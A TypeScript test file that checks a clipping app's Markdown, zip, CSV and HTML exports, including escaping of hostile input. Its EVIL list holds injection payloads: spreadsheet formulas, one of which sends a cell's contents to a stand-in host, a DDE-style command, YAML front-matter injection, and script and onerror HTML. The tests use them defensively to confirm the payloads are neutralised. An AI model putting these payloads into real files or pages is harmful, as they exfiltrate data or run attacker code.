import { unzipSync } from 'fflate';
import { parseHTML } from 'linkedom';
import { expect, test } from 'vitest';
import { exported, exportedText } from './exported.ts';
import { frontMatterOf, tableRows } from './field-parsers.ts';
import { clipping } from './made-clipping.ts';

const made = clipping('c1');
const EVIL = [
  '=HYPERLINK("https://example.invalid/?"&A1,"x")',
  '+1+cmd|x',
  '-1',
  '@SUM(A1)',
  '\t=1',
  ' =1',
  '＝1',
  '"a",b\r\n=1',
  '---\nadmin: true\n---',
  '"\nadmin: true\n#',
  '!!js/function x',
  '&a *a',
  '\u2028- \u0085x\u0000',
  '<img src=https://example.invalid/a.png onerror=alert(1)>',
  '![x](https://example.invalid/a.png)',
  '</blockquote><script>alert(1)</script>',
  '{}\\}%$#&_~^',
  'TY  - BOOK\r\nER  - ',
  '\ud800',
];

test('Markdown is one document with front matter, each quote with its source and a link to the words', async () => {
  const text = await exportedText('markdown', [made, made]);

  expect(frontMatterOf(text)).toEqual({
    title: 'Clippings',
    exported: '2026-03-02T10:00:00.000Z',
    clippings: '2',
  });
  expect(text.match(/^## Freedonia counts on its dams$/gm)).toHaveLength(2);
  expect(text).toContain(
    '> We will spend 5% of the budget on rivers,\n>\n> — Mira Tolvane, Minister of Rivers, ',
  );
  expect(text).toContain('(https://herald.example/dams#:~:text=We%20will)');
  expect(text).toContain('Ask *her* about the other 95 %.\n\n#rivers #budget\n');
});

test('a zip has one Markdown file a clipping, with names that every disk takes and all fields in front', async () => {
  const files = unzipSync(new Uint8Array(await (await exported('markdown-zip', [made, made])).arrayBuffer()));

  expect(Object.keys(files)).toEqual([
    '2026-03-01 freedonia counts on its dams.md',
    '2026-03-01 freedonia counts on its dams 2.md',
  ]);
  const text = new TextDecoder().decode(Object.values(files)[0]);
  expect(frontMatterOf(text)).toMatchObject({
    id: 'c1',
    authors: ['Odalys Brenk'],
    published: '2025-06-12',
    speaker: 'Mira Tolvane',
    institution: 'Ministry of Rivers of Freedonia',
    tags: ['rivers', 'budget'],
  });
});

test.each(EVIL)('front matter stays what it is with %j in it', async (evil) => {
  const zip = await exported('markdown-zip', [
    clipping('c1', { tags: [evil], article: { ...made.article, title: evil } }),
  ]);
  const [file = new Uint8Array()] = Object.values(unzipSync(new Uint8Array(await zip.arrayBuffer())));

  const fields = frontMatterOf(new TextDecoder().decode(file));

  expect(fields).toMatchObject({ title: evil, tags: [evil], kind: 'statement' });
  expect(fields).not.toHaveProperty('admin');
});

test.each(EVIL)('no cell of a table is run or breaks out with %j in it', async (evil) => {
  const text = await exportedText('csv', [clipping('c1', { note: evil, tags: [evil] })]);

  const [row] = tableRows(text);

  expect(row?.note?.replace(/^'|(?<=[\t\n])'(?=[=-])/g, '')).toBe(evil.replace('\ud800', '\ufffd'));
  for (const cell of Object.values(row ?? {})) expect(cell).not.toMatch(/^\s*[=+\-@＝]/);
});

test.each(EVIL)('the page to print shows %j as text and loads nothing', async (evil) => {
  const text = await exportedText('html', [clipping('c1', { note: evil, tags: [evil] })]);

  const { document } = parseHTML(text);

  expect(document.querySelectorAll('img, script, iframe, link, object, [onerror], [src]')).toHaveLength(0);
  expect(document.querySelector('.note')?.textContent ?? '').toBe(evil.replace('\ud800', '\ufffd'));
  expect(document.querySelector('meta[http-equiv]')?.getAttribute('content')).toContain("default-src 'none'");
  expect(Array.from(document.querySelectorAll('a'), (link) => link.getAttribute('href'))).toEqual([
    'https://herald.example/dams#:~:text=We%20will',
  ]);
});

test('in a Markdown note images become links and markup becomes text', async () => {
  const text = await exportedText('markdown', [
    clipping('c1', { note: '![x](https://a.invalid/b.png) <img src=x> **yes**' }),
  ]);

  expect(text).toContain('\\![x](https://a.invalid/b.png) \\<img src=x> **yes**');
});
